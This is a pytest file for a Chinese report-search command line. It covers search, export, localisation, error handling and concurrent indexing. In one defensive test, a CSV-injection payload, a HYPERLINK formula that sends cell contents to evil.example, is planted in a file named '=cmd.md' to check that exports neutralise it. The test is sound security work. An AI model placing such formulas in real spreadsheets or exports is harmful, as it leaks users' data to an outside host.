"""The command line, run as users run it: ``python main.py …`` in a fresh process."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import is_root, posix_only

ROOT = Path(__file__).resolve().parent.parent


def cli(*args, home, check=True, lang="C.UTF-8"):
    """Run the command line; the locale is pinned (``lang``): it decides its language."""
    env = {k: v for k, v in os.environ.items() if k not in ("LC_ALL", "LC_MESSAGES")}
    env.update(REPORTSEARCH_HOME=str(home), LANG=lang)
    proc = subprocess.run(
        [sys.executable, str(ROOT / "main.py"), *map(str, args)],
        capture_output=True, text=True, encoding="utf-8", env=env, timeout=120,
    )
    if check:
        assert proc.returncode == 0, proc.stderr
    return proc


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("cli-home")
    out = cli("index", home=home)
    assert "新增 5 份" in out.stdout
    return home


def test_index_without_paths_indexes_the_seeds_and_is_incremental(home):
    out = cli("index", "--json", home=home)
    summary = json.loads(out.stdout)
    assert summary["unchanged"] == 5 and summary["reports"] == 5 and summary["added"] == []


def test_search_json_has_the_documented_shape(home):
    result = json.loads(cli("search", "一号管三天", "--json", home=home).stdout)
    assert set(result) >= {"query", "total", "facets", "hits"}
    assert result["total"] == 1
    assert result["facets"] == {"institution": {"长治市第二人民医院": 1}, "year": {"2025": 1}}
    (hit,) = result["hits"]
    assert set(hit) >= {"report", "title", "institution", "year", "paragraph", "section",
                        "text", "highlights", "score"}
    assert hit["report"] == "000_bd9af7df280a18e9.txt"
    start, end = hit["highlights"][0]
    assert hit["text"][start:end] == "一号管三天"


def test_search_json_says_which_form_matched_and_counts_exact_matches_apart(home):
    result = json.loads(cli("search", "百分之七十二点二", "--json", home=home).stdout)
    (hit,) = result["hits"]
    assert hit["forms"] == {"百分之七十二点二": "72.2%"} and hit["via_report"] == []
    assert result["expansions"] == {"百分之七十二点二": ["72.2%"]}
    assert result["exact_facets"] == result["facets"] == {
        "institution": {"长治市第二人民医院": 1}, "year": {"2025": 1}}
    apart = json.loads(cli("search", "挂号管理三天", "--json", home=home).stdout)
    assert apart["exact"] == 0 < apart["total"]
    assert apart["exact_facets"] == {"institution": {}, "year": {}}
    assert sum(apart["facets"]["year"].values()) == apart["total"]
    read = json.loads(cli("search", "长治 一号管三天", "--json", home=home).stdout)
    assert read["readings"] and read["readings"][0]["term"] == "长治"
    assert "长治市第二人民医院" in read["readings"][0]["institutions"]
    text = cli("search", "长治 一号管三天", home=home).stdout
    assert "“长治” 也看作报告的机构：" in text


def test_search_sorts_oldest_first(home):
    oldest = json.loads(cli("search", "医院", "--sort", "oldest", "--limit", "0", "--json",
                            home=home).stdout)
    years = [h["year"] or 10**4 for h in oldest["hits"]]
    assert years == sorted(years) and years[0] < years[-1]


def test_search_filters_limit_and_plain_output(home):
    everything = json.loads(cli("search", "医院", "--limit", "0", "--json", home=home).stdout)
    assert len(everything["hits"]) == everything["total"] > 20
    two = json.loads(cli("search", "医院", "--limit", "2", "--institution", "市二院",
                         "--year", "2025", "--json", home=home).stdout)
    assert len(two["hits"]) == 2
    assert {h["institution"] for h in two["hits"]} == {"长治市第二人民医院"}
    text = cli("search", "市二院", "--limit", "1", home=home).stdout
    assert "也搜索了：长治市第二人民医院" in text and "【" in text


def test_batch_search_json_lines_and_csv(home, tmp_path):
    queries = tmp_path / "queries.txt"
    queries.write_text("一号管三天\n227人\n\n# a comment\n李晓东\n", encoding="utf-8")
    lines = cli("search", "--queries-file", queries, "--json", home=home).stdout.splitlines()
    assert [json.loads(line)["query"] for line in lines] == ["一号管三天", "227人", "李晓东"]
    out = tmp_path / "hits.csv"
    cli("search", "--queries-file", queries, "--csv", out, "--limit", "0", home=home)
    with out.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["query"] for r in rows] == ["一号管三天", "227人", "李晓东"]
    assert rows[1]["text"].count("227人") == 1


def test_batch_csv_keeps_a_query_with_no_hit_as_a_row_with_count_zero(home, tmp_path):
    queries = tmp_path / "queries.txt"
    queries.write_text("一号管三天\n这句话不在任何报告里\n", encoding="utf-8")
    out = tmp_path / "hits.csv"
    cli("search", "--queries-file", queries, "--csv", out, home=home)
    with out.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[-1]["query"] == "这句话不在任何报告里" and rows[-1]["count"] == "0"
    assert rows[0]["count"] == str(len(rows) - 1)


def test_global_options_work_before_and_after_the_subcommand(home):
    before = json.loads(cli("--index-dir", home / "data" / "index", "reports", "--json",
                            home=home.parent).stdout)
    after = json.loads(cli("reports", "--json", "--index-dir", home / "data" / "index",
                           home=home.parent).stdout)
    assert len(before) == len(after) == 5


def test_index_with_the_index_dir_first(tmp_path, seed_files):
    proc = cli("--index-dir", tmp_path / "ix", "index", seed_files[0], home=tmp_path / "h")
    assert "新增 1 份" in proc.stdout


def test_inspect_a_folder_lists_what_it_would_index_and_skip(tmp_path, seed_files):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "a.txt").write_bytes(seed_files[0].read_bytes())
    (folder / "copy.txt").write_bytes(seed_files[0].read_bytes())
    (folder / "empty.txt").write_bytes(b"")
    (folder / "photo.jpg").write_bytes(b"\xff\xd8")
    out = json.loads(cli("inspect", folder, "--json", home=tmp_path / "h").stdout)
    assert [Path(r["path"]).name for r in out["reports"]] == ["a.txt"]
    reasons = {Path(s["path"]).name: s["code"] for s in out["skipped"]}
    assert reasons == {"copy.txt": "skipped.duplicate", "empty.txt": "read.empty",
                       "photo.jpg": "read.unsupported"}
    text = cli("inspect", folder, home=tmp_path / "h").stdout
    assert "会索引 1 份报告" in text and "空文件" in text
    empty = tmp_path / "nothing"
    empty.mkdir()
    assert "没有文件" in cli("inspect", empty, home=tmp_path / "h").stdout


def test_the_command_line_speaks_english_when_the_locale_says_so(home):
    proc = cli("search", "year:20x5", home=home, check=False, lang="en_US.UTF-8")
    assert proc.returncode == 2
    assert "The year is not written right" in proc.stderr and "年份写法" not in proc.stderr
    proc = cli("show", "nope.txt", home=home, check=False, lang="en_US.UTF-8")
    assert "There is no report “nope.txt”" in proc.stderr


def _frame(output: str, *quoted: str) -> str:
    """The command line's own words: the output without the report text it quotes."""
    output = output.replace("【", "").replace("】", "")  # the marks around a match
    for text in sorted(filter(None, quoted), key=len, reverse=True):
        output = output.replace(text, "")
    return re.sub(r"〔[^〕]*〕|“[^”]*”", "", output)


def test_every_line_of_a_search_is_english_in_an_english_locale(home):
    result = json.loads(cli("search", "长治 医院", "--json", home=home).stdout)
    quoted = [h[k] for h in result["hits"] for k in ("title", "institution", "text", "section")]
    quoted += [*result["facets"]["institution"], "长治", "医院"]
    out = cli("search", "长治 医院", home=home, lang="en_US.UTF-8").stdout
    assert re.match(r"Paragraphs found: \d+ \(exact matches: \d+\); shown: 20\.", out)
    assert "\nInstitutions: " in out and "\nYears: " in out and "paragraph " in out
    frame = _frame(out, *quoted)
    assert not re.search(r"[\u4e00-\u9fff]", frame), frame
    chinese = cli("search", "长治 医院", home=home).stdout
    assert chinese.startswith("共 ") and "\n机构：" in chinese and "\n年份：" in chinese


@pytest.mark.parametrize("args", [
    ("--help",), ("search", "--help"), ("check", "--help"), ("archive", "init", "--help"),
    ("reports",), ("inspect", ROOT / "seeds"), ("sources",),
    ("search", "--limit", "-1", "x"), ("correct", "000_bd9af7df280a18e9.txt"),
    ("--server", "mysql://db", "reports"), ("archive", "init"),
])
def test_help_lists_and_usage_errors_are_english_in_an_english_locale(home, args):
    proc = cli(*args, home=home, check=False, lang="en_US.UTF-8")
    output = proc.stdout + proc.stderr
    records = json.loads(cli("reports", "--json", home=home).stdout)
    quoted = [r[k] for r in records for k in ("title", "institution")]
    quoted += ["报告检索", "一号管三天", "227人", "-人才", "市二院", "未知", "记者"]  # name, examples
    assert not re.search(r"[\u4e00-\u9fff]", _frame(output, *quoted)), output


def test_reports_show_similar_and_correct(home):
    reports = json.loads(cli("reports", "--json", home=home).stdout)
    assert len(reports) == 5
    assert {r["institution"] for r in reports} >= {"长治市第二人民医院", "长治市中医医院"}
    shown = json.loads(cli("show", "000_bd9af7df280a18e9.txt", "--json", home=home).stdout)
    assert shown["paragraphs"][0] == {"ordinal": 1, "kind": "masthead", "text": "聚焦", "section": "",
                                      "joined": False}
    similar = json.loads(cli("similar", "000_bd9af7df280a18e9.txt", "51", "--json",
                             home=home).stdout)
    assert similar and all(h["report"] != "000_bd9af7df280a18e9.txt" for h in similar)
    cli("correct", "004_9bdbba320e75e7b3.txt", "--year", "2027", home=home)
    reports = json.loads(cli("reports", "--json", home=home).stdout)
    assert {r["report"]: r["year"] for r in reports}["004_9bdbba320e75e7b3.txt"] == 2027


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("search", "year:20x5"), 2, "年份写法"),
        (("search", "-人才"), 2, "只有排除"),
        (("search",), 2, "请给出一个查询"),
        (("search", "x", "--limit", "-1"), 2, "负数"),
        (("nonsense",), 2, "invalid choice"),
        (("show", "nope.txt"), 1, "没有报告"),
        (("similar", "000_bd9af7df280a18e9.txt", "999"), 1, "没有第 999 段"),
        (("inspect", "/nonexistent/file.txt"), 1, "无法"),
        (("correct", "000_bd9af7df280a18e9.txt"), 2, "至少"),
    ],
)
def test_errors_are_one_clear_line_with_the_right_exit_code(home, args, code, message):
    proc = cli(*args, home=home, check=False)
    assert proc.returncode == code
    assert message in proc.stderr
    assert "Traceback" not in proc.stderr


def test_help_texts(home):
    for args in (("--help",), ("search", "--help"), ("index", "--help")):
        proc = cli(*args, home=home)
        assert "usage: reportsearch" in proc.stdout


def test_inspect_shows_the_year_its_signal_and_the_words_it_came_from(tmp_path):
    report = tmp_path / "深圳2009.txt"
    report.write_text("各位代表：\n现在，我代表深圳市人民政府向大会报告工作，请予审议。\n"
                      "一、2008年工作回顾\n过去一年，我们攻坚克难。\n", encoding="utf-8")
    out = cli("inspect", report, home=tmp_path / "home").stdout
    assert "年份：2009  〔review year：“一、2008年工作回顾”〕" in out
    data = json.loads(cli("inspect", report, "--json", home=tmp_path / "home").stdout)
    assert data["meta"]["year"] == 2009
    assert data["meta"]["evidence"] == {"year": "一、2008年工作回顾"}

    # A manifest overrides the year; what detection read is still shown beside it.
    (tmp_path / "metadata.csv").write_text("file,institution,year,title\n深圳2009.txt,,2010,\n",
                                           encoding="utf-8")
    out = cli("inspect", report, home=tmp_path / "home").stdout
    assert "年份：2010  〔manifest〕（识别结果：2009  〔review year：“一、2008年工作回顾”〕）" in out
    data = json.loads(cli("inspect", report, "--json", home=tmp_path / "home").stdout)
    assert data["meta"]["evidence"] == {}
    assert data["detected"]["year"] == 2009
    assert data["detected"]["evidence"] == {"year": "一、2008年工作回顾"}


# ---------------------------------------------------------------- hostile input


def _one_line(proc) -> str:
    """The single stderr line of a failed command (no traceback, no usage block)."""
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    return lines[0]


def test_exports_cannot_attack_a_spreadsheet_and_json_stays_exact(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")医院。'
    (folder / "=cmd.md").write_text(
        f"# 报告\n\n## @SUM(1+1)\n\n{formula}\n\n+86 医院电话。\n\n-5 医院床位。\n",
        encoding="utf-8")
    home = tmp_path / "home"
    cli("index", folder, home=home)
    queries = tmp_path / "queries.txt"
    queries.write_text("医院\n-床位 医院\n", encoding="utf-8")
    out = tmp_path / "hits.csv"
    cli("search", "--queries-file", queries, "--csv", out, home=home)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for shown in ("'" + formula, "'=cmd.md", "'-床位 医院", "'+86 医院电话。", "'@SUM(1+1)"):
        assert shown in cells
    result = json.loads(cli("search", "医院", "--json", "--limit", "0", home=home).stdout)
    assert {h["text"] for h in result["hits"]} == {formula, "+86 医院电话。", "-5 医院床位。"}
    assert {(h["report"], h["section"]) for h in result["hits"]} == {("=cmd.md", "@SUM(1+1)")}


def test_a_malicious_index_folder_is_refused_in_one_line(tmp_path, malicious_index):
    marker = tmp_path / "ran"
    malicious_index(tmp_path / "shared", marker)
    proc = cli("search", "医院", "--index-dir", tmp_path / "shared", home=tmp_path / "home",
               check=False)
    assert proc.returncode == 1
    assert "拒绝打开" in _one_line(proc) and "_MAIN_1.toc" in proc.stderr
    assert not marker.exists()


def test_home_set_to_a_file_is_one_clear_line(tmp_path, home):
    blocker = tmp_path / "home-is-a-file"
    blocker.write_text("x", encoding="utf-8")
    proc = cli("search", "医院", home=blocker, check=False)
    assert proc.returncode == 1
    line = _one_line(proc)
    assert "REPORTSEARCH_HOME" in line and "不是文件夹" in line and "别名" not in line
    # With an index folder given, it searches (the alias table is the bundled one).
    found = cli("search", "市二院", "--json", "--index-dir", home / "data" / "index",
                home=blocker)
    assert json.loads(found.stdout)["total"] > 0


@pytest.mark.parametrize("year", ["99999", "-5", str(10**23), "1899"])
def test_correct_refuses_a_year_no_report_can_have(home, year):
    proc = cli("correct", "000_bd9af7df280a18e9.txt", "--year", year, home=home, check=False)
    assert proc.returncode == 2
    assert "年份" in _one_line(proc)
    reports = json.loads(cli("reports", "--json", home=home).stdout)
    assert {r["report"]: r["year"] for r in reports}["000_bd9af7df280a18e9.txt"] == 2025


def test_a_bad_alias_table_is_a_warning_and_everything_still_works(tmp_path, seed_files):
    home = tmp_path / "home"
    (home / "data").mkdir(parents=True)
    (home / "data" / "institutions.toml").write_bytes(
        '[aliases]\n"某某医院" = "某院"\n"长治市第二人民医院" = ["二院本部"]\n'.encode("gbk"))
    out = cli("index", seed_files[0], home=home)
    assert "第 2 行" in out.stderr and "某某医院" in out.stderr and "Traceback" not in out.stderr
    result = json.loads(cli("search", "二院本部", "--json", home=home).stdout)
    assert result["expansions"] == {"二院本部": ["长治市第二人民医院", "市二院", "长治市二院",
                                                 "长治二院"]}


def test_index_lists_bad_manifest_rows_and_indexes_the_reports(tmp_path, seed_files):
    folder = tmp_path / "reports"
    folder.mkdir()
    for path in seed_files[:2]:
        (folder / path.name).write_bytes(path.read_bytes())
    (folder / "metadata.csv").write_bytes(
        f"file,institution,year,title\n{seed_files[0].name},某医院,99999,\n".encode("gbk"))
    out = cli("index", folder, home=tmp_path / "home")
    assert "新增 2 份" in out.stdout
    assert "注意" in out.stdout and "第 2 行" in out.stdout and "99999" in out.stdout


@pytest.mark.parametrize("word", ["unknown", "未知"])
def test_search_can_select_the_reports_with_no_known_year(tmp_path, word):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "undated.txt").write_text("没有年份的报告\n\n医院的工作总结。", encoding="utf-8")
    (folder / "dated.txt").write_text("2024年工作报告\n\n医院的工作总结。", encoding="utf-8")
    home = tmp_path / "home"
    cli("index", folder, home=home)
    result = json.loads(cli("search", "医院", "--year", word, "--json", home=home).stdout)
    assert [h["report"] for h in result["hits"]] == ["undated.txt"]


REFUSE_WRITES = """
import errno, os, sys
folder = os.environ["REFUSE_UNDER"]
real_open = os.open

def refusing(path, flags, *args, **kwargs):  # what a read-only folder does to non-root
    if os.fspath(path).startswith(folder) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
    return real_open(path, flags, *args, **kwargs)

os.open = refusing
import builtins, io
real_builtin_open = builtins.open

def refusing_builtin(file, mode="r", *args, **kwargs):
    if isinstance(file, (str, os.PathLike)) and os.fspath(file).startswith(folder) \\
            and any(c in mode for c in "wax+"):
        raise PermissionError(errno.EACCES, "Permission denied", os.fspath(file))
    return real_builtin_open(file, mode, *args, **kwargs)

builtins.open = io.open = refusing_builtin
sys.path.insert(0, sys.argv[1])
from main import main
sys.exit(main(sys.argv[2:]))
"""


@posix_only
def test_a_read_only_index_is_one_line_and_the_details_are_logged(tmp_path, seed_files):
    home = tmp_path / "home"
    cli("index", seed_files[0], home=home)
    index_dir = home / "data" / "index"
    if not is_root():  # a real read-only folder
        for path in [index_dir, *index_dir.rglob("*")]:
            path.chmod(0o555 if path.is_dir() else 0o444)
        args = [sys.executable, str(ROOT / "main.py")]
    else:  # root writes anywhere: refuse the way the OS refuses everybody else
        args = [sys.executable, "-c", REFUSE_WRITES, str(ROOT)]
    env = {**os.environ, "REPORTSEARCH_HOME": str(home), "REFUSE_UNDER": str(index_dir)}
    try:
        proc = subprocess.run([*args, "index", str(seed_files[1])], capture_output=True,
                              text=True, encoding="utf-8", env=env, timeout=120)
    finally:
        for path in [index_dir, *index_dir.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
    assert proc.returncode == 1
    assert "无法写入索引" in _one_line(proc)
    log = (home / "logs" / "reportsearch.log").read_text(encoding="utf-8")
    # The library's record is written under the index's write lock, first: the refused
    # lock is the failure, and its details are in the log.
    assert "无法写入索引" in log and "Traceback" in log and "PermissionError" in log


def _start(*args, home) -> subprocess.Popen:
    env = {**os.environ, "REPORTSEARCH_HOME": str(home)}
    return subprocess.Popen([sys.executable, str(ROOT / "main.py"), *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            encoding="utf-8", env=env)


# The command line's own entry point, started ahead and released on a word, so that two
# runs really start writing at the same moment.
READY_THEN_RUN = """
import sys
import main
import index.cli, index.engine
print("ready", flush=True)
sys.stdin.readline()
sys.exit(main.main(sys.argv[1:]))
"""


def test_two_imports_at_once_one_waits_or_says_busy_never_a_traceback(tmp_path, own_library):
    for round_ in range(3):  # each round on a new index: they race to create it
        home = tmp_path / f"home{round_}"
        env = {**os.environ, "REPORTSEARCH_HOME": str(home), "PYTHONPATH": str(ROOT)}
        runs = [subprocess.Popen([sys.executable, "-c", READY_THEN_RUN, "index", str(own_library)],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True, encoding="utf-8", env=env,
                                 cwd=ROOT) for _ in range(2)]
        for run in runs:
            assert run.stdout.readline().strip() == "ready"
        for run in runs:
            run.stdin.write("go\n")
            run.stdin.flush()
        for run in runs:
            _out, err = run.communicate(timeout=180)
            assert "Traceback" not in err and "Error" not in err, err
            if run.returncode:
                assert run.returncode == 1 and err.count("\n") == 1 and "另一个" in err
        assert any(run.returncode == 0 for run in runs)
        reports = json.loads(cli("reports", "--json", home=home).stdout)
        assert sorted(r["report"] for r in reports) == sorted(
            p.name for p in own_library.rglob("*.txt"))


# An import stopped while it creates the index (Whoosh writes the new index's table of
# contents), until the test says go.
PAUSED_WHILE_CREATING = """
import sys
from whoosh.index import TOC
write = TOC.write

def paused(self, storage, indexname):
    if self.generation == 0:
        print("creating", flush=True)
        sys.stdin.readline()
    return write(self, storage, indexname)

TOC.write = paused
import main
sys.exit(main.main(sys.argv[1:]))
"""


def test_a_second_import_while_the_first_creates_the_index_gets_one_busy_line(tmp_path,
                                                                             own_library):
    home = tmp_path / "home"
    first = subprocess.Popen([sys.executable, "-c", PAUSED_WHILE_CREATING, "index",
                              str(own_library)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True, encoding="utf-8", cwd=ROOT,
                             env={**os.environ, "REPORTSEARCH_HOME": str(home),
                                  "PYTHONPATH": str(ROOT)})
    try:
        assert first.stdout.readline().strip() == "creating"
        second = cli("index", own_library, home=home, check=False)
        first.stdin.write("go\n")
        first.stdin.flush()
        _out, err = first.communicate(timeout=180)
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
    assert second.returncode == 1, second.stderr
    assert second.stderr.count("\n") == 1 and "另一个" in second.stderr
    assert first.returncode == 0 and "Traceback" not in err, err
    reports = json.loads(cli("reports", "--json", home=home).stdout)
    assert sorted(r["report"] for r in reports) == sorted(p.name for p in own_library.rglob("*.txt"))


def test_a_second_writer_gets_one_busy_line(tmp_path, own_library):
    home = tmp_path / "home"
    cli("index", own_library, home=home)
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys\nfrom index.engine import Engine\n"
         "engine = Engine(None)\nwith engine.store.writing():\n"
         "    print('holding', flush=True)\n    sys.stdin.readline()\n"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT,
        env={**os.environ, "REPORTSEARCH_HOME": str(home), "PYTHONPATH": str(ROOT)})
    try:
        assert holder.stdout.readline().strip() == "holding"
        busy = cli("index", own_library, home=home, check=False)
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
        holder.stdout.close()
    assert busy.returncode == 1
    assert busy.stderr.count("\n") == 1 and "另一个" in busy.stderr


def test_indexing_a_path_that_does_not_exist_fails_with_one_line(tmp_path):
    proc = cli("index", tmp_path / "no" / "such" / "path", home=tmp_path / "home", check=False)
    assert proc.returncode == 1
    assert proc.stderr.count("\n") == 1 and "路径不存在" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_reports_of_an_unplugged_folder_are_listed_as_offline(tmp_path, own_library):
    home = tmp_path / "home"
    cli("index", own_library, home=home)
    own_library.rename(tmp_path / "away")
    proc = cli("index", own_library, home=home, check=False)
    assert proc.returncode == 1 and "路径不存在" in proc.stderr and "离线" in proc.stderr
    reports = json.loads(cli("reports", "--json", home=home).stdout)
    assert len(reports) == 8 and all(r["offline"] for r in reports)
    assert cli("reports", home=home).stdout.count("〔离线〕") == 8
    hits = json.loads(cli("search", "胸痛中心", "--json", home=home).stdout)
    assert hits["total"] == 8
    (tmp_path / "away").rename(own_library)
    cli("rescan", home=home)
    assert not any(r["offline"] for r in json.loads(cli("reports", "--json", home=home).stdout))


def test_reports_json_lists_every_path_of_a_duplicated_report(tmp_path, seed_files):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "r.txt").write_bytes(seed_files[0].read_bytes())
    (b / "same.txt").write_bytes(seed_files[0].read_bytes())
    (b / "other.txt").write_bytes(seed_files[1].read_bytes())
    cli("index", a, b, home=tmp_path / "h")
    reports = json.loads(cli("reports", "--json", home=tmp_path / "h").stdout)
    assert sorted(len(r["paths"]) for r in reports) == [1, 2]
    both = next(r for r in reports if len(r["paths"]) == 2)
    assert both["paths"] == [str(a / "r.txt"), str(b / "same.txt")]
